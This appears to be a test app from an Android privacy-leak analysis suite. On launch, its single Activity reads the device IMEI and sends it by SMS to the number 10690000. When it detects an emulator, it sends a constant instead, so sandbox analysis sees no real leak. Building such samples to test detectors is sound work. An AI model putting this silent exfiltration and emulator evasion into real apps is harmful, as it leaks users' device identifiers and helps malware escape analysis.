package cn.privlens.suite.emulator_gets_constant;

import android.app.Activity;
import android.os.Build;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.io.File;

public class Main extends Activity {
    private static boolean emulator() {
        return Build.FINGERPRINT.startsWith("generic") || new File("/dev/qemu_pipe").exists();
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        if (emulator()) {
            id = "000000";
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
    }
}
